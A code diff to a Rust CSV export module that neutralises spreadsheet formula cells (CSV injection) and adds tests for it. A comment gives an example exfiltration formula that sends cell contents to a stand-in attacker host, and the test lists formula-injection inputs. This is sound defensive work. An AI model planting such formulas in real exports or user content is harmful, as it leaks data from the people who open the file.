@@ -3,6 +3,10 @@
 //! rows, streamed batch by batch as the table query yields them. Spec §8's two export errors
 //! are answered before the first byte: no columns, and nothing to export.
 //!
+//! Cells come from members (post titles and texts, report explanations) and from anyone
+//! (crash reports): every cell a spreadsheet would read as a formula is neutralised here, once,
+//! for every export (OWASP's CSV injection advice).
+//!
 //! An export reads a whole table, so only `MAX_EXPORTS` run at once in a process; one more is
 //! a 429 with `Retry-After` rather than a queue of table scans.
 
@@ -87,15 +91,25 @@ fn encode_batch<T>(batch: Result<Vec<T>>, row: fn(T) -> Vec<String>) -> std::io:
     }
 }
 
-/// One record: every field quoted, quotes doubled, CRLF at the end.
+/// One record: every field quoted, quotes doubled, formulas neutralised, CRLF at the end.
 fn encode(fields: impl IntoIterator<Item = String>) -> Vec<u8> {
     let mut writer = csv::WriterBuilder::new()
         .quote_style(csv::QuoteStyle::Always)
         .terminator(csv::Terminator::CRLF)
         .from_writer(Vec::new());
     // Writing to memory cannot fail; an empty record is the worst outcome.
-    let _ = writer.write_record(fields);
+    let _ = writer.write_record(fields.into_iter().map(neutralise));
     writer.into_inner().unwrap_or_default()
+}
+
+/// A cell that starts with `=`, `+`, `-` or `@` (also after leading whitespace), or with a tab
+/// or a carriage return, is a formula to Excel, LibreOffice and Google Sheets: a member could
+/// write `=HYPERLINK("https://evil.example/?"&A1, "Open")` into a post and have it run on an
+/// admin's machine. Such a cell starts with a single quote instead, which shows it as text.
+fn neutralise(cell: String) -> String {
+    let formula =
+        cell.starts_with(['\t', '\r']) || cell.trim_start().starts_with(['=', '+', '-', '@']);
+    if formula { format!("'{cell}") } else { cell }
 }
 
 /// The tables' "long date with time", as date-fns' `PPPp` writes it ("November 23rd, 2026 at
@@ -136,6 +150,35 @@ mod tests {
             String::from_utf8(encode(["a".into(), "say \"hi\", ok".into(), String::new()]))
                 .unwrap(),
             "\"a\",\"say \"\"hi\"\", ok\",\"\"\r\n"
+        );
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_neutralised() {
+        for formula in [
+            "=HYPERLINK(\"https://evil.example\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1:A2)",
+            "\tcmd",
+            "\r=cmd",
+            "  =1+1",
+            "\n@x",
+        ] {
+            assert_eq!(neutralise(formula.to_owned()), format!("'{formula}"));
+        }
+        for text in [
+            "Hello",
+            "a=b",
+            "email@example.org",
+            "",
+            "November 23rd, 2026",
+        ] {
+            assert_eq!(neutralise(text.to_owned()), text);
+        }
+        assert_eq!(
+            String::from_utf8(encode(["=1+1".into(), "ok".into()])).unwrap(),
+            "\"'=1+1\",\"ok\"\r\n"
         );
     }
 
